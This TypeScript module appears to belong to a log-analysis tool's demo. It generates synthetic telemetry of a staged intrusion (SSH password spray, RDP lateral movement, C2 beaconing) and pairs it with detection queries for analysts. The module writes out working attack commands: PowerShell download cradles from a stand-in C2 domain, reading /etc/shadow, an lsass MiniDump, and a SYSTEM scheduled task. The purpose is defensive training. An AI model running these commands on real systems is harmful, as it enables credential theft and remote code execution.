/**
 * The attack story hidden in the demo telemetry, and the queries that uncover it.
 *
 * Timeline (offsets from the story's start; the generator centres the story in the demo range and
 * compresses it when the range is shorter than twice the story):
 *
 *   +00:00  T1110.003 Password Spraying      198.51.100.23 tries 12 user names, three passwords each,
 *                                            against sshd on lnx-bastion-01 (35 'Failed password').
 *   +05:50  T1078.002 Domain Accounts         'Accepted password for dave' from the same address:
 *                                            dave's domain password was the third one tried.
 *   +07:30  T1003.008 /etc/passwd and /etc/shadow   sudo cat /etc/shadow on the bastion.
 *   +10:00  T1021.001 Remote Desktop Protocol 4624 LogonType 3 (NLA, NTLM) then 10 on WS-FIN-01 as
 *                                            CORP\dave from the bastion's address 10.30.0.10;
 *                                            userinit.exe → explorer.exe in the new session.
 *   +12:00  T1059.001 PowerShell              explorer.exe → powershell.exe -nop -w hidden -enc …
 *                                            (a WebClient download cradle, UTF-16LE base64).
 *   +12:02  T1105 Ingress Tool Transfer       DNS query for cdn-msupdate.top (Sysmon 22) and HTTPS to
 *                                            203.0.113.77:443 (Sysmon 3) from that PowerShell.
 *   +12:40  T1071.001 Web Protocols           beacons to 203.0.113.77:8443 every ~5 min (±20%) until
 *                                            the end of the range.
 *   +14:00  T1033 System Owner/User Discovery whoami /all
 *   +14:40  T1069.002 Domain Groups           net group "domain admins" /domain (→ net1.exe)
 *   +15:20  T1018 Remote System Discovery     nltest /dclist:corp.example.com
 *   +20:00  T1003.001 LSASS Memory            rundll32.exe comsvcs.dll, MiniDump <lsass pid> …;
 *                                            Sysmon 10 (lsass opened 0x1FFFFF) and 11 (the dump file).
 *   +26:00  T1053.005 Scheduled Task          schtasks /create … /sc onlogon /ru SYSTEM, whose action is
 *                                            another encoded PowerShell cradle; Sysmon 11 of the task
 *                                            file written by the Schedule service.
 *
 * Attacker addresses come from the documentation ranges (RFC 5737), so the demo never points at a
 * real host. The story is written against `StoryWorld`, which the generator implements, so this
 * module stays free of event formats.
 */

/** One step of the story, as `vigil demo` prints it. */
export interface StoryStep {
  /** Milliseconds after the story's start (before any compression). */
  offsetMs: number;
  /** MITRE ATT&CK technique id. */
  technique: string;
  tactic: string;
  description: string;
}

export interface DemoQuery {
  title: string;
  query: string;
  /** What the analyst should see. */
  expect: string;
}

/** The names and addresses the story uses; the generator's environment always contains them. */
export const STORY_ACTORS = {
  attackerIp: '198.51.100.23',
  c2Ip: '203.0.113.77',
  c2Domain: 'cdn-msupdate.top',
  bastion: 'lnx-bastion-01',
  bastionIp: '10.30.0.10',
  victim: 'WS-FIN-01',
  user: 'dave',
  dumpFile: 'C:\\Windows\\Temp\\dbgcore.dmp',
  taskName: '\\Microsoft\\Windows\\Maintenance\\SystemHealthCheck',
} as const;

/** The stager that the first encoded PowerShell runs (decoded). */
export const STAGER_SCRIPT =
  "$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 10.0; Win64; x64)');" +
  '$w.Proxy=[Net.WebRequest]::GetSystemWebProxy();$w.Proxy.Credentials=[Net.CredentialCache]::DefaultCredentials;' +
  `IEX $w.DownloadString('https://${STORY_ACTORS.c2Domain}/updates/check.ps1')`;

/** The scheduled task's action (decoded); short because schtasks /tr takes at most 261 characters. */
export const PERSISTENCE_SCRIPT = `IEX(New-Object Net.WebClient).DownloadString('https://${STORY_ACTORS.c2Domain}/u')`;

/** PowerShell's -EncodedCommand form: base64 of the UTF-16LE script. */
export function encodePowerShell(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}

/** A process the world created or knows about. */
export interface ProcessRef {
  readonly pid: number;
  readonly image: string;
}

export interface LogonSpec {
  logonType: number;
  user: string;
  ip: string;
  port: number;
  workstation: string;
  /** NTLM for the RDP network-level authentication, Negotiate for the interactive RDP logon. */
  authPackage: 'NTLM' | 'Negotiate';
}

export interface ProcessSpec {
  parent: ProcessRef;
  image: string;
  cmdLine: string;
  /** DOMAIN\name */
  user: string;
  logonId: string;
  integrity: 'Medium' | 'High' | 'System';
  session: number;
  cwd: string;
}

/** What the story needs from the generator: events in the generator's formats, on its hosts. */
export interface StoryWorld {
  readonly domainFqdn: string;
  readonly netbios: string;
  /** The uid of a user on the Linux hosts. */
  linuxUid(user: string): number;
  /** A fresh process id on a Linux host. */
  linuxPid(host: string): number;
  /** The systemd-logind process id of a Linux host. */
  logindPid(host: string): number;
  /** The next login session number of a Linux host. */
  nextSession(host: string): number;
  /** One syslog message: `pri` is facility × 8 + severity. */
  syslog(
    time: number,
    host: string,
    app: string,
    pid: number | undefined,
    pri: number,
    message: string,
  ): void;
  /** Security 4624 on a Windows host; returns the new logon id (e.g. `0x3a1f20`). */
  logon(time: number, host: string, spec: LogonSpec): string;
  /** A long-running process of a Windows host. */
  systemProcess(host: string, name: 'winlogon.exe' | 'lsass.exe' | 'Schedule'): ProcessRef;
  /** Sysmon 1. */
  process(time: number, host: string, spec: ProcessSpec): ProcessRef;
  /** Sysmon 3, outbound TCP. */
  network(time: number, host: string, proc: ProcessRef, dstIp: string, dstPort: number): void;
  /** Sysmon 22. `results` in Sysmon's QueryResults form, e.g. `::ffff:203.0.113.77;`. */
  dns(time: number, host: string, proc: ProcessRef, queryName: string, results: string): void;
  /** Sysmon 11. */
  fileCreate(time: number, host: string, proc: ProcessRef, path: string): void;
  /** Sysmon 10. */
  processAccess(
    time: number,
    host: string,
    source: ProcessRef,
    target: ProcessRef,
    grantedAccess: string,
    callTrace: string,
  ): void;
}

const MIN = 60_000;

/** Syslog priorities (facility × 8 + severity) that sshd, PAM, sudo and logind use on Debian. */
const AUTH_INFO = 4 * 8 + 6;
const AUTHPRIV_NOTICE = 10 * 8 + 5;
const AUTHPRIV_INFO = 10 * 8 + 6;

/** User names tried by the spray, in order; dave is last, his password falls in the third round. */
const SPRAY_USERS = [
  'root',
  'admin',
  'ubuntu',
  'test',
  'oracle',
  'postgres',
  'git',
  'backup',
  'support',
  'frank',
  'deploy',
  'dave',
];
/** Accounts that exist on the bastion; sshd logs the others as 'invalid user'. */
const BASTION_ACCOUNTS = new Set(['root', 'frank', 'dave', 'deploy']);
const SPRAY_ROUNDS = 3;
const SPRAY_SPACING_MS = 10_000;

const SYSTEM32 = 'C:\\Windows\\System32';
const POWERSHELL = `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`;

interface PlayContext {
  world: StoryWorld;
  /** Absolute time of a nominal story offset. */
  at: (offsetMs: number) => number;
  /** Time after which no event may be emitted (the end of the demo range). */
  end: number;
  random: () => number;
  /** State handed from step to step. */
  state: {
    logonId?: string;
    explorer?: ProcessRef;
    shell?: ProcessRef;
  };
}

interface PlayedStep extends StoryStep {
  play(ctx: PlayContext): void;
}

function int(random: () => number, min: number, max: number): number {
  return min + Math.floor(random() * (max - min + 1));
}

function dom(ctx: PlayContext): string {
  return `${ctx.world.netbios}\\${STORY_ACTORS.user}`;
}

/** The shell needs the RDP session; if an earlier step has not run (it always has), fail loudly. */
function need<T>(value: T | undefined, what: string): T {
  if (value === undefined) throw new Error(`demo story: ${what} is not set by an earlier step`);
  return value;
}

function sprayAttempts(): { user: string; round: number }[] {
  const attempts: { user: string; round: number }[] = [];
  for (let round = 0; round < SPRAY_ROUNDS; round++) {
    for (const user of SPRAY_USERS) {
      attempts.push({ user, round });
      if (round === SPRAY_ROUNDS - 1 && user === STORY_ACTORS.user) return attempts;
    }
  }
  return attempts;
}

/** Failed password lines the spray produces (the last attempt succeeds). */
export const SPRAY_FAILURES = sprayAttempts().length - 1;
/** Distinct user names the spray tries. */
export const SPRAY_USER_COUNT = SPRAY_USERS.length;

const STEPS: PlayedStep[] = [
  {
    offsetMs: 0,
    technique: 'T1110.003',
    tactic: 'Credential Access',
    description: `SSH password spray from ${STORY_ACTORS.attackerIp} against ${STORY_ACTORS.bastion}: ${SPRAY_USER_COUNT} user names, ${SPRAY_ROUNDS} passwords, ${SPRAY_FAILURES} failures in six minutes`,
    play(ctx) {
      const { world } = ctx;
      const host = STORY_ACTORS.bastion;
      const ip = STORY_ACTORS.attackerIp;
      const attempts = sprayAttempts();
      attempts.forEach(({ user }, i) => {
        const last = i === attempts.length - 1;
        const t = ctx.at(i * SPRAY_SPACING_MS + int(ctx.random, 0, 2500));
        const pid = world.linuxPid(host);
        const port = int(ctx.random, 32768, 60999);
        const valid = BASTION_ACCOUNTS.has(user);
        if (!valid) {
          world.syslog(t, host, 'sshd', pid, AUTH_INFO, `Invalid user ${user} from ${ip} port ${port}`);
          world.syslog(t + 40, host, 'sshd', pid, AUTH_INFO, 'pam_unix(sshd:auth): check pass; user unknown');
        }
        if (last) {
          const uid = world.linuxUid(user);
          world.syslog(
            t + 180,
            host,
            'sshd',
            pid,
            AUTH_INFO,
            `Accepted password for ${user} from ${ip} port ${port} ssh2`,
          );
          world.syslog(
            t + 190,
            host,
            'sshd',
            pid,
            AUTHPRIV_INFO,
            `pam_unix(sshd:session): session opened for user ${user}(uid=${uid}) by (uid=0)`,
          );
          const session = world.nextSession(host);
          world.syslog(
            t + 205,
            host,
            'systemd-logind',
            world.logindPid(host),
            AUTH_INFO,
            `New session ${session} of user ${user}.`,
          );
          return;
        }
        world.syslog(
          t + 45,
          host,
          'sshd',
          pid,
          AUTHPRIV_NOTICE,
          `pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${ip}${valid ? `  user=${user}` : ''}`,
        );
        const invalid = valid ? '' : 'invalid user ';
        world.syslog(
          t + 2100,
          host,
          'sshd',
          pid,
          AUTH_INFO,
          `Failed password for ${invalid}${user} from ${ip} port ${port} ssh2`,
        );
        const closer = valid ? `authenticating user ${user}` : `invalid user ${user}`;
        world.syslog(
          t + 2350,
          host,
          'sshd',
          pid,
          AUTH_INFO,
          `Connection closed by ${closer} ${ip} port ${port} [preauth]`,
        );
      });
    },
  },
  {
    offsetMs: (sprayAttempts().length - 1) * SPRAY_SPACING_MS,
    technique: 'T1078.002',
    tactic: 'Initial Access',
    description: `'Accepted password for ${STORY_ACTORS.user}' from ${STORY_ACTORS.attackerIp}: the spray found ${STORY_ACTORS.user}'s domain password`,
    play() {
      // The login is the spray's last attempt (emitted by the spray step, so its port matches).
    },
  },
  {
    offsetMs: 7.5 * MIN,
    technique: 'T1003.008',
    tactic: 'Credential Access',
    description: `sudo cat /etc/shadow as ${STORY_ACTORS.user} on ${STORY_ACTORS.bastion}`,
    play(ctx) {
      const { world } = ctx;
      const host = STORY_ACTORS.bastion;
      const user = STORY_ACTORS.user;
      const t = ctx.at(7.5 * MIN);
      const pid = world.linuxPid(host);
      world.syslog(
        t,
        host,
        'sudo',
        undefined, // sudo logs its command line without a pid
        AUTHPRIV_NOTICE,
        `${user} : TTY=pts/3 ; PWD=/home/${user} ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow`,
      );
      world.syslog(
        t + 3,
        host,
        'sudo',
        pid,
        AUTHPRIV_INFO,
        `pam_unix(sudo:session): session opened for user root(uid=0) by ${user}(uid=${world.linuxUid(user)})`,
      );
      world.syslog(
        t + 9,
        host,
        'sudo',
        pid,
        AUTHPRIV_INFO,
        'pam_unix(sudo:session): session closed for user root',
      );
    },
  },
  {
    offsetMs: 10 * MIN,
    technique: 'T1021.001',
    tactic: 'Lateral Movement',
    description: `RDP from the bastion (${STORY_ACTORS.bastionIp}) to ${STORY_ACTORS.victim} as ${STORY_ACTORS.user}: 4624 LogonType 3 then 10`,
    play(ctx) {
      const { world } = ctx;
      const host = STORY_ACTORS.victim;
      const t = ctx.at(10 * MIN);
      const port = int(ctx.random, 40000, 60000);
      const client = STORY_ACTORS.bastion.toUpperCase();
      world.logon(t, host, {
        logonType: 3,
        user: STORY_ACTORS.user,
        ip: STORY_ACTORS.bastionIp,
        port,
        workstation: client,
        authPackage: 'NTLM',
      });
      const logonId = world.logon(t + 1800, host, {
        logonType: 10,
        user: STORY_ACTORS.user,
        ip: STORY_ACTORS.bastionIp,
        port: 0,
        workstation: host,
        authPackage: 'Negotiate',
      });
      const winlogon = world.systemProcess(host, 'winlogon.exe');
      const userinit = world.process(t + 4200, host, {
        parent: winlogon,
        image: `${SYSTEM32}\\userinit.exe`,
        cmdLine: `${SYSTEM32}\\userinit.exe`,
        user: dom(ctx),
        logonId,
        integrity: 'High',
        session: 2,
        cwd: `${SYSTEM32}\\`,
      });
      ctx.state.explorer = world.process(t + 5100, host, {
        parent: userinit,
        image: 'C:\\Windows\\explorer.exe',
        cmdLine: 'C:\\Windows\\Explorer.EXE',
        user: dom(ctx),
        logonId,
        integrity: 'High',
        session: 2,
        cwd: `${SYSTEM32}\\`,
      });
      ctx.state.logonId = logonId;
    },
  },
  {
    offsetMs: 12 * MIN,
    technique: 'T1059.001',
    tactic: 'Execution',
    description: `explorer.exe starts powershell.exe -nop -w hidden -enc … (a download cradle) on ${STORY_ACTORS.victim}`,
    play(ctx) {
      const { world } = ctx;
      const host = STORY_ACTORS.victim;
      const t = ctx.at(12 * MIN);
      const logonId = need(ctx.state.logonId, 'the RDP logon');
      ctx.state.shell = world.process(t, host, {
        parent: need(ctx.state.explorer, 'explorer.exe'),
        image: POWERSHELL,
        cmdLine: `powershell.exe -nop -w hidden -enc ${encodePowerShell(STAGER_SCRIPT)}`,
        user: dom(ctx),
        logonId,
        integrity: 'High',
        session: 2,
        cwd: `C:\\Users\\${STORY_ACTORS.user}\\`,
      });
      world.process(t + 20, host, {
        parent: ctx.state.shell,
        image: `${SYSTEM32}\\conhost.exe`,
        cmdLine: '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
        user: dom(ctx),
        logonId,
        integrity: 'High',
        session: 2,
        cwd: `C:\\Users\\${STORY_ACTORS.user}\\`,
      });
    },
  },
  {
    offsetMs: 12 * MIN + 2_000,
    technique: 'T1105',
    tactic: 'Command and Control',
    description: `DNS query for ${STORY_ACTORS.c2Domain} and HTTPS to ${STORY_ACTORS.c2Ip}:443 to fetch the second stage`,
    play(ctx) {
      const { world } = ctx;
      const host = STORY_ACTORS.victim;
      const t = ctx.at(12 * MIN + 2_000);
      const shell = need(ctx.state.shell, 'the PowerShell process');
      world.dns(t, host, shell, STORY_ACTORS.c2Domain, `::ffff:${STORY_ACTORS.c2Ip};`);
      world.network(t + 60, host, shell, STORY_ACTORS.c2Ip, 443);
    },
  },
  {
    offsetMs: 12 * MIN + 40_000,
    technique: 'T1071.001',
    tactic: 'Command and Control',
    description: `beacons from powershell.exe to ${STORY_ACTORS.c2Ip}:8443 every ~5 minutes until the end of the data`,
    play(ctx) {
      const { world } = ctx;
      const host = STORY_ACTORS.victim;
      const shell = need(ctx.state.shell, 'the PowerShell process');
      // Beacons keep their real interval even when the story is compressed: it is the rhythm an
      // analyst spots on a timechart.
      for (
        let t = ctx.at(12 * MIN + 40_000);
        t < ctx.end;
        t += Math.round(5 * MIN * (0.8 + 0.4 * ctx.random()))
      ) {
        world.network(t, host, shell, STORY_ACTORS.c2Ip, 8443);
      }
    },
  },
  {
    offsetMs: 14 * MIN,
    technique: 'T1033',
    tactic: 'Discovery',
    description: 'whoami /all',
    play(ctx) {
      child(ctx, 14 * MIN, `${SYSTEM32}\\whoami.exe`, '"C:\\Windows\\system32\\whoami.exe" /all');
    },
  },
  {
    offsetMs: 14 * MIN + 40_000,
    technique: 'T1069.002',
    tactic: 'Discovery',
    description: 'net group "domain admins" /domain',
    play(ctx) {
      const net = child(
        ctx,
        14 * MIN + 40_000,
        `${SYSTEM32}\\net.exe`,
        '"C:\\Windows\\system32\\net.exe" group "domain admins" /domain',
      );
      child(
        ctx,
        14 * MIN + 40_030,
        `${SYSTEM32}\\net1.exe`,
        'C:\\Windows\\system32\\net1 group "domain admins" /domain',
        net,
      );
    },
  },
  {
    offsetMs: 15 * MIN + 20_000,
    technique: 'T1018',
    tactic: 'Discovery',
    description: 'nltest /dclist: (domain controllers)',
    play(ctx) {
      child(
        ctx,
        15 * MIN + 20_000,
        `${SYSTEM32}\\nltest.exe`,
        `"C:\\Windows\\system32\\nltest.exe" /dclist:${ctx.world.domainFqdn}`,
      );
    },
  },
  {
    offsetMs: 20 * MIN,
    technique: 'T1003.001',
    tactic: 'Credential Access',
    description: `rundll32.exe comsvcs.dll MiniDump of lsass.exe to ${STORY_ACTORS.dumpFile}`,
    play(ctx) {
      const { world } = ctx;
      const host = STORY_ACTORS.victim;
      const t = ctx.at(20 * MIN);
      const lsass = world.systemProcess(host, 'lsass.exe');
      const rundll = child(
        ctx,
        20 * MIN,
        `${SYSTEM32}\\rundll32.exe`,
        `"C:\\Windows\\system32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, MiniDump ${lsass.pid} ${STORY_ACTORS.dumpFile} full`,
      );
      const callTrace = [
        'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4',
        'C:\\Windows\\System32\\KERNELBASE.dll+2c13e',
        'C:\\Windows\\SYSTEM32\\dbgcore.DLL+6d8c',
        'C:\\Windows\\System32\\comsvcs.dll+3a39a',
        'C:\\Windows\\system32\\rundll32.exe+3bd4',
        'C:\\Windows\\System32\\KERNEL32.DLL+17034',
        'C:\\Windows\\SYSTEM32\\ntdll.dll+52651',
      ].join('|');
      world.processAccess(t + 150, host, rundll, lsass, '0x1FFFFF', callTrace);
      world.fileCreate(t + 420, host, rundll, STORY_ACTORS.dumpFile);
    },
  },
  {
    offsetMs: 26 * MIN,
    technique: 'T1053.005',
    tactic: 'Persistence',
    description: `schtasks /create ${STORY_ACTORS.taskName} at logon as SYSTEM, running an encoded PowerShell cradle`,
    play(ctx) {
      const { world } = ctx;
      const host = STORY_ACTORS.victim;
      const t = ctx.at(26 * MIN);
      const action = `powershell.exe -nop -w hidden -enc ${encodePowerShell(PERSISTENCE_SCRIPT)}`;
      child(
        ctx,
        26 * MIN,
        `${SYSTEM32}\\schtasks.exe`,
        `"C:\\Windows\\system32\\schtasks.exe" /create /tn "${STORY_ACTORS.taskName}" /tr "${action}" /sc onlogon /ru SYSTEM /rl HIGHEST /f`,
      );
      const schedule = world.systemProcess(host, 'Schedule');
      world.fileCreate(t + 260, host, schedule, `C:\\Windows\\System32\\Tasks${STORY_ACTORS.taskName}`);
    },
  },
];

/** A child of the hidden PowerShell (or of `parent`) in dave's RDP session. */
function child(
  ctx: PlayContext,
  offsetMs: number,
  image: string,
  cmdLine: string,
  parent?: ProcessRef,
): ProcessRef {
  return ctx.world.process(ctx.at(offsetMs), STORY_ACTORS.victim, {
    parent: parent ?? need(ctx.state.shell, 'the PowerShell process'),
    image,
    cmdLine,
    user: dom(ctx),
    logonId: need(ctx.state.logonId, 'the RDP logon'),
    integrity: 'High',
    session: 2,
    cwd: `C:\\Users\\${STORY_ACTORS.user}\\`,
  });
}

/** The story's steps, for `vigil demo` to print. */
export const DEMO_STORY: readonly StoryStep[] = STEPS.map(({ offsetMs, technique, tactic, description }) => ({
  offsetMs,
  technique,
  tactic,
  description,
}));

/** From the first spray attempt to the scheduled task (beacons continue after it). */
export const STORY_SPAN_MS = Math.max(...STEPS.map((s) => s.offsetMs)) + MIN;

/**
 * Where the story starts in a demo range and how much it is compressed: centred, at full speed
 * when the range holds twice the story, else squeezed into the middle half of the range.
 */
export function storyPlacement(start: number, durationMs: number): { storyStart: number; scale: number } {
  const scale = Math.min(1, durationMs / (2 * STORY_SPAN_MS));
  return { storyStart: Math.round(start + durationMs / 2 - (STORY_SPAN_MS * scale) / 2), scale };
}

/** Plays every step into `world`. `random` drives ports and jitter; `end` bounds the beacons. */
export function playStory(
  world: StoryWorld,
  start: number,
  durationMs: number,
  random: () => number,
): { storyStart: number; scale: number } {
  const placement = storyPlacement(start, durationMs);
  let stepJitter = 0;
  const ctx: PlayContext = {
    world,
    at: (offset) => placement.storyStart + Math.round(offset * placement.scale) + stepJitter,
    end: start + durationMs,
    random,
    state: {},
  };
  for (const step of STEPS) {
    // Real clocks do not land on whole seconds; one shift per step keeps the step's own order.
    stepJitter = Math.floor(random() * 900);
    step.play(ctx);
  }
  return placement;
}

/** What an analyst would try next, in Vigil's query language (docs/query.md). */
export const DEMO_QUERIES: readonly DemoQuery[] = [
  {
    title: 'Who is failing SSH logins, and from where?',
    query: '"Failed password" | stats count() by src_ip | sort -count | head 10',
    expect: `${STORY_ACTORS.attackerIp} on ${STORY_ACTORS.bastion} with ${SPRAY_FAILURES} failures within six minutes, far above the internet background noise (a few per address from 192.0.2.0/24).`,
  },
  {
    title: 'Did the spray get in? Password logins from outside the network',
    query: '"Accepted password" NOT src_ip=10.0.0.0/8 | fields time, user, src_ip, message',
    expect: `One line: Accepted password for ${STORY_ACTORS.user} from ${STORY_ACTORS.attackerIp}, right after the failures (insiders log in with keys from 10.x addresses).`,
  },
  {
    title: 'Where did the bastion log on to next?',
    query: `event_code=4624 IpAddress=${STORY_ACTORS.bastionIp} | stats count() by host, TargetUserName, LogonType`,
    expect: `${STORY_ACTORS.victim} as ${STORY_ACTORS.user}: LogonType 3 (RDP network-level authentication) then 10 (RemoteInteractive). Nothing else logs on to Windows from the bastion.`,
  },
  {
    title: 'Hidden, encoded PowerShell',
    query: 'cmd_line=*-enc* | fields time, host, user, process.name, cmd_line',
    expect: `powershell.exe -nop -w hidden -enc … on ${STORY_ACTORS.victim} as ${STORY_ACTORS.user} (the base64 decodes, as UTF-16LE, to a WebClient download from ${STORY_ACTORS.c2Domain}), and later schtasks.exe whose /tr repeats the trick.`,
  },
  {
    title: 'What did that PowerShell start?',
    query: `ParentImage=*powershell.exe host=${STORY_ACTORS.victim}* | fields time, user, process.name, cmd_line`,
    expect:
      'As dave: conhost.exe, discovery (whoami /all, net group "domain admins" /domain, nltest /dclist:), rundll32.exe comsvcs.dll MiniDump of lsass, schtasks /create. The only others are the conhost.exe of the daily inventory script, run as SYSTEM.',
  },
  {
    title: 'Who opened or dumped lsass?',
    query:
      'TargetImage=*lsass.exe OR cmd_line=*MiniDump* | fields time, host, user, process.name, cmd_line, GrantedAccess',
    expect: `rundll32.exe on ${STORY_ACTORS.victim}: the comsvcs.dll MiniDump command line, and a Sysmon 10 opening lsass.exe with access 0x1FFFFF.`,
  },
  {
    title: 'The C2 domain and its beaconing',
    query: `QueryName=${STORY_ACTORS.c2Domain} OR dst_ip=${STORY_ACTORS.c2Ip} | timechart span=15m count() by host`,
    expect: `Only ${STORY_ACTORS.victim}: one DNS query, a download on 443, then a connection to ${STORY_ACTORS.c2Ip}:8443 about every five minutes until the end of the data.`,
  },
  {
    title: 'Persistence: new scheduled tasks',
    query: 'process.name=schtasks.exe | fields time, host, user, cmd_line',
    expect: `schtasks /create /tn "${STORY_ACTORS.taskName}" /sc onlogon /ru SYSTEM on ${STORY_ACTORS.victim}, its action another hidden encoded PowerShell.`,
  },
];
